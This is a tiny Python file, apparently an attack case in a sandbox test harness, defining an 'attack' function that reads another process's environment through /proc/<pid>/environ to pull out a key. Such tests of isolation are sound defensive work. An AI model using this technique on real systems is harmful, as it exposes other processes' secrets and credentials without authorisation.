"""Read a key out of another process's environment."""

from pathlib import Path

from sandbox.weapons import World


def attack(world: World) -> object:
    return Path(f"/proc/{world['victim']}/environ").read_text()
